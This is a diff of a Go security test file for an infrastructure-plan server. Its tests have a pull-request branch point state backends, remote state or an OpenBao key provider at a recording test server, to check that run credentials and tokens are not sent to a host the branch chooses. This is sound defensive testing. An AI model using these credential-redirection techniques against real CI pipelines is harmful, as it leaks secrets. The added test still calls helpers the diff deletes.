@@ -1,88 +1,122 @@
 package server
 
 import (
-	"context"
-	"encoding/json"
+	"fmt"
+	"net/http"
+	"net/http/httptest"
 	"os"
 	"path/filepath"
 	"strings"
+	"sync"
 	"testing"
-	"time"
 )
 
-// attack13dConfig is a pull-request template on the control node's own
-// queue whose credential authenticates an http state backend.
-const attack13dConfig = `
-credential "state13d" {
-  env = { TF_HTTP_USERNAME = "switchtender", TF_HTTP_PASSWORD = "state-password-13d" }
-}
-template "pr13d" {
-  project     = "infra"
-  command     = "infra/pr13d"
-  credentials = ["state13d"]
-}
-`
-
-// attack13dWrite writes files (name -> text; "" removes it, "symlink:T"
-// makes a symbolic link to T) into dir.
-func attack13dWrite(t *testing.T, dir string, files map[string]string) {
-	t.Helper()
-	for name, text := range files {
-		p := filepath.Join(dir, name)
-		if text == "" {
-			if err := os.Remove(p); err != nil {
-				t.Fatal(err)
-			}
-			continue
-		}
-		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
-			t.Fatal(err)
-		}
-		if target, ok := strings.CutPrefix(text, "symlink:"); ok {
-			if err := os.Symlink(target, p); err != nil {
-				t.Fatal(err)
-			}
-			continue
-		}
-		if err := os.WriteFile(p, []byte(text), 0o644); err != nil {
-			t.Fatal(err)
-		}
+// Promise (README "Pull-request plans"): a pull request's plan runs in a
+// private tree, "the checkout's working tree, index and HEAD are never
+// touched", against "a read-only copy" of a local state file. Break: the
+// branch's own configuration names a local backend whose path is in the
+// checkout (any path the server can write); the scan does not look at
+// backends, and the plan's state lock creates that state file (and its
+// directories) in the checkout, where it stays.
+func TestAttack12PullRequestBackendPathWritesIntoCheckout(t *testing.T) {
+	h := prHarness(t)
+	target := filepath.Join(h.project, "pwned", "by-pr.tfstate")
+	h.git("checkout", "-q", "-b", "backend")
+	be := fmt.Sprintf("terraform {\n  backend \"local\" {\n    path = %q\n  }\n}\n", target)
+	os.WriteFile(filepath.Join(h.project, "infra/data/backend.tf"), []byte(be), 0o644)
+	h.git("add", "-A")
+	h.git("commit", "-q", "-m", "backend")
+	h.git("checkout", "-q", "main")
+	before := h.git("status", "--porcelain", "--ignored")
+	v := h.launchWait("alice", "data", "--dry-run", "--ref", "backend")
+	after := h.git("status", "--porcelain", "--ignored")
+	t.Logf("%s: %s\n%s", v.Status, v.Message, h.mustSSH("bob", "log", v.ID))
+	if _, err := os.Stat(target); err == nil || after != before {
+		t.Fatalf("a pull request's plan wrote into the checkout (%s: %s):\nbefore %q\nafter  %q\n%s", v.Status, v.Message, before, after, h.mustSSH("bob", "log", v.ID))
 	}
 }
 
-// attack13dPR starts a control node whose checkout's infra/pr13d holds
-// main (on branch main) and a branch "pr" that writes branch over it, and
-// plans the branch as a pull request.
-func attack13dPR(t *testing.T, main, branch map[string]string) runView {
-	t.Helper()
-	return attack13dPRWith(t, main, func(h *harness, wd string) { attack13dWrite(t, wd, branch) })
+// The same from a pull request: the branch adds the encryption block; its
+// plan is scanned, found clean, and `tofu init` in the private tree sends
+// the run's token to the branch's host.
+func TestAttack12bPullRequestOpenbaoSendsRunToken(t *testing.T) {
+	addr, seen := baoListener(t)
+	h := newHarness(t, `
+credential "bao" {
+  env = { BAO_TOKEN = "s.run-token-XYZZY" }
 }
-
-// attack13dPRWith is attack13dPR with the branch's change made by change
-// (in the checkout, on branch pr; everything it leaves is committed).
-func attack13dPRWith(t *testing.T, main map[string]string, change func(h *harness, wd string)) runView {
-	t.Helper()
-	h := writeHarness(t, "", attack13dConfig)
-	wd := filepath.Join(h.project, "infra/pr13d")
-	attack13dWrite(t, wd, main)
-	h.start()
+template "data" {
+  project = "infra"
+  command = "infra/data"
+  credentials = ["bao"]
+}
+`)
 	h.git("init", "-q", "-b", "main")
 	h.git("add", "-A")
 	h.git("commit", "-q", "-m", "main")
-	h.git("checkout", "-q", "-b", "pr")
-	change(h, wd)
-	h.git("add", "-A", "-f")
-	h.git("commit", "-q", "-m", "the pull request")
+	h.git("checkout", "-q", "-b", "bao")
+	os.WriteFile(filepath.Join(h.project, "infra/data/encryption.tf"), []byte(baoEncryption(addr)), 0o644)
+	h.git("add", "-A")
+	h.git("commit", "-q", "-m", "bao")
 	h.git("checkout", "-q", "main")
-	return h.launchWait("alice", "pr13d", "--dry-run", "--ref", "pr")
+	v := h.launchWait("alice", "data", "--dry-run", "--ref", "bao")
+	if got := seen(); len(got) > 0 {
+		t.Fatalf("a pull request's plan sent the run's token in %d requests to the branch's host (%s: %s; steps %v): %v",
+			len(got), v.Status, v.Message, stepNames(v), got)
+	}
 }
 
-// attack13dBackend is an http backend whose address is expr.
-func attack13dBackend(expr string) string {
-	return "terraform {\n  backend \"http\" {\n    address = " + expr + "\n  }\n}\n"
+// Promise (README "Pull-request plans"): a pull request's plan runs
+// "against the state the checkout's runs use", and a plan that would send a
+// write request is refused. Break: the branch replaces the backend with
+// backend "http" at a host it names, with lock_address there too; the scan
+// reads no backend block, and init and plan send the run's TF_HTTP_*
+// credentials (basic auth) to that host, the plan's state lock as a LOCK
+// request (a write). The pull request's plan also no longer plans against
+// the checkout's state.
+func TestAttack12bPullRequestHttpBackendSendsRunCredentials(t *testing.T) {
+	var mu sync.Mutex
+	var got []string
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		u, p, _ := r.BasicAuth()
+		mu.Lock()
+		got = append(got, r.Method+" "+r.URL.Path+" auth="+u+":"+p)
+		mu.Unlock()
+		if r.Method == http.MethodGet {
+			w.WriteHeader(http.StatusNoContent)
+			return
+		}
+		w.WriteHeader(http.StatusOK)
+	}))
+	t.Cleanup(srv.Close)
+	h := newHarness(t, `
+credential "state" {
+  env = { TF_HTTP_USERNAME = "switchtender", TF_HTTP_PASSWORD = "state-password-XYZZY" }
 }
-
-const attack13dResource = "resource \"terraform_data\" \"x\" {\n  input = \"x\"\n}\n"
+template "data" {
+  project = "infra"
+  command = "infra/data"
+  credentials = ["state"]
+}
+`)
+	h.git("init", "-q", "-b", "main")
+	h.git("add", "-A")
+	h.git("commit", "-q", "-m", "main")
+	h.git("checkout", "-q", "-b", "httpbe")
+	os.WriteFile(filepath.Join(h.project, "infra/data/backend.tf"), []byte(fmt.Sprintf(
+		"terraform {\n  backend \"http\" {\n    address      = %q\n    lock_address = %q\n    unlock_address = %q\n  }\n}\n",
+		srv.URL+"/state", srv.URL+"/lock", srv.URL+"/lock")), 0o644)
+	h.git("add", "-A")
+	h.git("commit", "-q", "-m", "http backend")
+	h.git("checkout", "-q", "main")
+	v := h.launchWait("alice", "data", "--dry-run", "--ref", "httpbe")
+	mu.Lock()
+	defer mu.Unlock()
+	if len(got) > 0 {
+		t.Fatalf("a pull request's plan sent the run's state credentials to the branch's host (%s: %s; steps %v): %v",
+			v.Status, v.Message, stepNames(v), got)
+	}
+}
 
 // Promise (README "Pull-request plans"; scan.Backend: the locals a backend
 // block references are pinned by their definitions, so a branch that
@@ -269,168 +303,6 @@ func TestAttack13dJSONTemplateBackendUnrelatedVariableRefused(t *testing.T) {
 	}
 }
 
-// attack13dSlowTemplate is a template on pool eu applying infra/slow.
-const attack13dSlowTemplate = `
-template "rslow" {
-  project = "infra"
-  command = "infra/slow"
-  queue   = "eu"
-}
-`
-
-// attack13dSlowModule makes infra/slow in checkout a 30-second apply.
-func attack13dSlowModule(t *testing.T, checkout string) {
-	t.Helper()
-	tf := "resource \"terraform_data\" \"slow\" {\n  provisioner \"local-exec\" { command = \"echo started-slow; sleep 30\" }\n}\n"
-	if err := os.WriteFile(filepath.Join(checkout, "infra/slow/main.tf"), []byte(tf), 0o644); err != nil {
-		t.Fatal(err)
-	}
-}
-
-// Promise (relay_session.go: "worker drained" is audited when a drained
-// worker leaves: "it took no new run, finished the one it had, and
-// left"). Break: the documented way to stop a worker outright is a second
-// SIGTERM after the first one's drain. A worker drained and then stopped
-// mid-apply interrupts its run and reports it interrupted, which ends the
-// lease; disconnected then sees draining && lease == nil and audits
-// "worker drained ... finished the one it had", though the run it had was
-// interrupted, not finished (the audit contradicts the run's record).
-func TestAttack13dStoppedAfterDrainAuditedAsDrained(t *testing.T) {
-	h, keys, identity := relayHarness(t, attack13dSlowTemplate)
-	h.srv.relay.mu.Lock()
-	h.srv.relay.timeout["eu"] = time.Minute
-	h.srv.relay.mu.Unlock()
-	w1 := relayWorkerCfg(t, h, "w1", "eu", keys["w1"], identity)
-	attack13dSlowModule(t, w1.Projects["infra"].Path)
-	ctx, stop := context.WithCancel(context.Background())
-	defer stop()
-	drain := make(chan struct{})
-	errs := make(chan error, 1)
-	go func() { errs <- RunWorker(ctx, w1, WorkerOptions{Environ: testEnviron, Version: "test", Drain: drain}) }()
-	id := runIDOf(t, h.mustSSH("alice", "launch", "rslow", "--json"))
-	waitFor(t, "the slow apply to start", 60*time.Second, func() bool {
-		return strings.Contains(h.mustSSH("alice", "log", id), "started-slow")
-	})
-	close(drain) // the first SIGTERM
-	waitFor(t, "the drain to be audited", 10*time.Second, func() bool { return strings.Contains(h.mustSSH("alice", "audit"), "worker draining") })
-	stop() // the second
-	h.waitStatus(id, StatusInterrupted, StatusFailed, StatusSucceeded)
-	select {
-	case <-errs:
-	case <-time.After(30 * time.Second):
-		t.Fatal("the stopped worker did not return")
-	}
-	var audit string
-	waitFor(t, "the worker's leaving to be audited", 10*time.Second, func() bool {
-		audit = h.mustSSH("alice", "audit")
-		return strings.Contains(audit, "worker drained") || strings.Contains(audit, "worker disconnected") || strings.Contains(audit, "worker stopped")
-	})
-	r, _ := h.srv.db.GetRun(id)
-	if !strings.Contains(audit, "worker stopped") {
-		t.Errorf("a worker stopped outright is not audited as stopped:\n%s", audit)
-	}
-	if Status(r.Status) == StatusInterrupted && strings.Contains(audit, "finished the one it had") {
-		t.Fatalf("a worker stopped during its run after a drain is audited as drained, having \"finished the one it had\", while its run %s is %s:\n%s", id, r.Status, audit)
-	}
-}
-
-// Held: a lease lives on its own heartbeats only. A worker that took a
-// run and then sends only run-less heartbeats (which keep `workers` LAST
-// SEEN fresh), heartbeats with a wrong fencing token, and another
-// worker's heartbeats with the right token, loses the lease within the
-// timeout: the run fails as stopped heartbeating, and the wrong-token
-// heartbeats are rejected.
-func TestAttack13dIdleHeartbeatsKeepNoLease(t *testing.T) {
-	h, keys, _ := relayHarness(t, "")
-	raw, _ := dialRaw(t, h, keys["w2"], relayMsg{Name: "w2", Pool: "eu"})
-	other, _ := dialRaw(t, h, keys["w1"], relayMsg{Name: "w1", Pool: "eu"})
-	id, job := attack13cTake(t, h, raw, "rnet", "--dry-run", "--var", "region=hb")
-	started := time.Now()
-	done := make(chan struct{})
-	go func() {
-		defer close(done)
-		for time.Since(started) < 8*time.Second {
-			if r, _ := h.srv.db.GetRun(id); Status(r.Status).Final() {
-				return
-			}
-			_ = raw.c.send(relayMsg{Type: msgHeartbeat})
-			_ = raw.c.send(relayMsg{Type: msgHeartbeat, Run: id, Token: job.Token + 1})
-			_ = other.c.send(relayMsg{Type: msgHeartbeat, Run: id, Token: job.Token})
-			time.Sleep(200 * time.Millisecond)
-		}
-	}()
-	h.waitStatus(id, StatusFailed, StatusSucceeded)
-	<-done
-	r, _ := h.srv.db.GetRun(id)
-	if Status(r.Status) != StatusFailed || !strings.Contains(r.Message, "stopped heartbeating") || time.Since(started) > 7*time.Second {
-		t.Fatalf("a lease kept by idle or wrong-token heartbeats for %s: %s: %s", time.Since(started), r.Status, r.Message)
-	}
-	m, err := raw.c.recv()
-	if err != nil || m.Type != msgReject {
-		t.Fatalf("a wrong-token heartbeat was answered %+v (%v)", m, err)
-	}
-	var ws []workerView
-	if err := json.Unmarshal([]byte(h.mustSSH("alice", "workers", "--json")), &ws); err != nil {
-		t.Fatal(err)
-	}
-	for _, w := range ws {
-		if w.Name == "w2" && time.Since(w.LastSeen) > 3*time.Second {
-			t.Errorf("w2's idle heartbeats did not keep LAST SEEN fresh: %v", w.LastSeen)
-		}
-	}
-}
-
-// Promise (relay: the control node keeps the decisions; "refused" is the
-// status of a run a gate or scan refused, lifecycle.go). Break: result
-// (relay_end.go) takes a worker's "refused" for any job. A worker refuses
-// only on paths a scanned job or a pull request has (the scan, the export,
-// the plan checked against the scan); for a job with neither, an
-// unscanned dry run here, no worker refusal exists, yet a worker's
-// "refused" with a message of its choosing ("The rules refuse this apply:
-// ...") is recorded as the run's refusal, as if the gate had decided it. A
-// result a job cannot have should count as failed ("anything else counts
-// as failed").
-func TestAttack13dWorkerRefusesUnscannedJob(t *testing.T) {
-	h, keys, _ := relayHarness(t, "")
-	raw, _ := dialRaw(t, h, keys["w2"], relayMsg{Name: "w2", Pool: "eu"})
-	id, job := attack13cTake(t, h, raw, "rnet", "--dry-run", "--var", "region=rf")
-	if job.ScanWhy != "" || job.Ref != "" {
-		t.Fatalf("the job is scanned: %+v", job)
-	}
-	raw.send(relayMsg{Type: msgResult, Run: id, Token: job.Token, Status: string(StatusRefused), Exit: -1,
-		Message: "The rules refuse this apply: rule prod-freeze. Nothing was applied."})
-	h.waitStatus(id, StatusRefused, StatusFailed)
-	if r, _ := h.srv.db.GetRun(id); Status(r.Status) == StatusRefused {
-		t.Fatalf("a worker's refusal of a job that has no refusal on a worker was recorded as the run's: %s: %s", r.Status, r.Message)
-	}
-}
-
-// Held: a worker's "interrupted" (the report of a worker stopped
-// outright) ends the run and changes nothing else. For a gated apply's
-// plan phase it proposes nothing; for a scanned job before its scan it
-// keeps no scan; the run is never re-run and its lease is gone, so the
-// worker's later plan or success is rejected.
-func TestAttack13dInterruptedDodgesNothing(t *testing.T) {
-	h, keys, _ := relayHarness(t, relayScanConfig)
-	raw, _ := dialRaw(t, h, keys["w2"], relayMsg{Name: "w2", Pool: "eu"})
-	for _, args := range [][]string{{"rs-modvar", "--dry-run"}, {"rpr", "--dry-run", "--ref", "main"}} {
-		id, job := attack13cTake(t, h, raw, args...)
-		if job.ScanWhy == "" {
-			t.Fatalf("%v: the job is not scanned", args)
-		}
-		raw.send(relayMsg{Type: msgResult, Run: id, Token: job.Token, Status: string(StatusInterrupted), Exit: -1, Message: "stopped"})
-		h.waitStatus(id, StatusInterrupted, StatusFailed)
-		raw.send(relayMsg{Type: msgResult, Run: id, Token: job.Token, Status: string(StatusSucceeded), Exit: 0})
-		if m := raw.recv(); m.Type != msgReject {
-			t.Fatalf("%v: a success after interrupted was answered %+v", args, m)
-		}
-		r, _ := h.srv.db.GetRun(id)
-		if r.Scan != nil || len(r.Approvals) != 0 || r.Proposal != nil || Status(r.Status) != StatusInterrupted {
-			t.Fatalf("%v: interrupted left %s, scan %+v, proposal %+v", args, r.Status, r.Scan, r.Proposal)
-		}
-	}
-}
-
 // Promise (scan.Backend: "a value read through a function that reads a
 // file (file, templatefile, ...)" is refused, since no text could pin
 // the file). Break: the refusal is a regular expression over the source
@@ -456,67 +328,6 @@ func TestAttack13dFileFunctionBehindComment(t *testing.T) {
 	}
 	if statusOf(v.Run) != StatusRefused {
 		t.Fatalf("not refused: %s: %s", v.Status, v.Message)
-	}
-}
-
-// Promise (relay_session.go drain: a draining worker "takes no new run",
-// audited as such; "worker drained": "it took no new run"). Break: take
-// (relay_lease.go) does not look at draining, so a worker that drains
-// while a run is offered to it (the drain said "it has no run and takes
-// no new one") can still take that offer and run it; when it leaves, the
-// audit says it "took no new run".
-func TestAttack13dDrainingWorkerTakesOffer(t *testing.T) {
-	h, keys, _ := relayHarness(t, "")
-	raw, _ := dialRaw(t, h, keys["w2"], relayMsg{Name: "w2", Pool: "eu"})
-	raw.send(relayMsg{Type: msgPoll})
-	id := runIDOf(t, h.mustSSH("alice", "launch", "rnet", "--dry-run", "--var", "region=dr", "--json"))
-	if m := raw.recv(); m.Type != msgOffer || m.Run != id {
-		t.Fatalf("offer %+v", m)
-	}
-	raw.send(relayMsg{Type: msgDrain})
-	waitFor(t, "the drain to be audited", 10*time.Second, func() bool { return strings.Contains(h.mustSSH("alice", "audit"), "worker draining") })
-	raw.send(relayMsg{Type: msgTake, Run: id})
-	if m := raw.recv(); m.Type == msgJob {
-		raw.send(relayMsg{Type: msgResult, Run: id, Token: m.Token, Status: string(StatusFailed), Exit: 1, Message: "ran"})
-		h.waitStatus(id, StatusFailed)
-		raw.client.Close()
-		waitFor(t, "the worker's leaving to be audited", 10*time.Second, func() bool {
-			return strings.Contains(h.mustSSH("alice", "audit"), "worker drained") || strings.Contains(h.mustSSH("alice", "audit"), "worker disconnected")
-		})
-		t.Fatalf("a draining worker was given run %s after its drain was audited as taking no new run:\n%s", id, h.mustSSH("alice", "audit"))
-	}
-}
-
-// The override-file break of TestAttack13dOverrideLocalRedirectsState on
-// a relay worker: the worker's export compares with the same scan.Backend,
-// and its init and plan send the run's state credentials to the branch's
-// host.
-func TestAttack13dOverrideLocalRedirectsStateOnWorker(t *testing.T) {
-	legit, _ := attack13cStateServer(t)
-	evil, seen := attack13cStateServer(t)
-	h, keys, identity := relayHarness(t, relayScanConfig+attack13cHTTPStateConfig)
-	w1 := relayWorkerCfg(t, h, "w1", "eu", keys["w1"], identity)
-	checkout := w1.Projects["infra"].Path
-	wd := filepath.Join(checkout, "infra/data")
-	git := gitIn(t, checkout)
-	git("init", "-q", "-b", "main")
-	attack13dWrite(t, wd, map[string]string{
-		"backend.tf": attack13dBackend("local.state_address"),
-		"locals.tf":  "locals {\n  state_address = \"" + legit.URL + "/state\"\n}\n",
-	})
-	git("add", "-A")
-	git("commit", "-q", "-m", "main")
-	git("checkout", "-q", "-b", "redirect")
-	attack13dWrite(t, wd, map[string]string{"a_override.tf": "locals {\n  state_address = \"" + evil.URL + "/state\"\n}\n"})
-	git("add", "-A")
-	git("commit", "-q", "-m", "an override file")
-	git("checkout", "-q", "main")
-	startWorker(t, w1)
-
-	v := h.launchWait("alice", "rprhttp", "--dry-run", "--ref", "redirect")
-	if got := seen(); len(got) > 0 {
-		t.Fatalf("a pull request's plan on the worker sent the run's state credentials to the host the branch's override file names (%s: %s; steps %v): %v",
-			v.Status, v.Message, stepNames(v), got)
 	}
 }
 
@@ -552,4 +363,66 @@ func TestAttack13dCommittedSavedBackendHeld(t *testing.T) {
 	if statusOf(v.Run) != StatusSucceeded || len(lseen()) == 0 {
 		t.Fatalf("the plan did not run against the checkout's host: %s: %s", v.Status, v.Message)
 	}
+}
+
+// Promise (README "Pull-request plans", server/pullrequest.go sameBackend:
+// "a backend or key provider the branch chose would get the run's
+// credentials", so a branch's plan runs only against the checkout's
+// backend). Break: a branch that leaves the backend block alone and adds a
+// data "terraform_remote_state" with backend = "http" and an address of
+// its choosing. The http backend takes its username and password from
+// TF_HTTP_USERNAME / TF_HTTP_PASSWORD when its config names none, in a
+// terraform_remote_state as in the root's backend, so the plan of the
+// branch sends the run's state credentials (basic auth, in clear) to the
+// branch's host. The scan (scan/credfiles.go remoteStateReason) flags a
+// remote state only for a credentials-file argument; sameBackend reads
+// only backend, cloud and encryption blocks.
+func TestAttack13eRemoteStateSendsStateCredentials(t *testing.T) {
+	legit, _ := attack13cStateServer(t)
+	evil, seen := attack13cStateServer(t)
+	v := attack13dPR(t, map[string]string{
+		"backend.tf": attack13dBackend(`"` + legit.URL + `/state"`),
+		"main.tf":    attack13dResource,
+	}, map[string]string{
+		"peek.tf": attack13eRemoteState(evil.URL + "/other-state"),
+	})
+	for _, req := range seen() {
+		if strings.Contains(req, "state-password-13d") {
+			t.Fatalf("a branch's terraform_remote_state sent the run's state credentials to the branch's host (%s: %s; steps %v): %v",
+				v.Status, v.Message, stepNames(v), seen())
+		}
+	}
+	t.Logf("%s: %s; the branch's host saw %v", v.Status, v.Message, seen())
+}
+
+// baoListener records every request's method and X-Vault-Token.
+func baoListener(t *testing.T) (addr string, seen func() []string) {
+	var mu sync.Mutex
+	var got []string
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		mu.Lock()
+		got = append(got, r.Method+" "+r.URL.Path+" token="+r.Header.Get("X-Vault-Token"))
+		mu.Unlock()
+		w.WriteHeader(http.StatusInternalServerError)
+	}))
+	t.Cleanup(srv.Close)
+	return srv.URL, func() []string { mu.Lock(); defer mu.Unlock(); return append([]string{}, got...) }
+}
+
+func baoEncryption(addr string) string {
+	return fmt.Sprintf(`terraform {
+  encryption {
+    key_provider "openbao" "k" {
+      address  = %q
+      key_name = "k"
+    }
+    method "aes_gcm" "m" {
+      keys = key_provider.openbao.k
+    }
+    state {
+      method = method.aes_gcm.m
+    }
+  }
+}
+`, addr)
 }
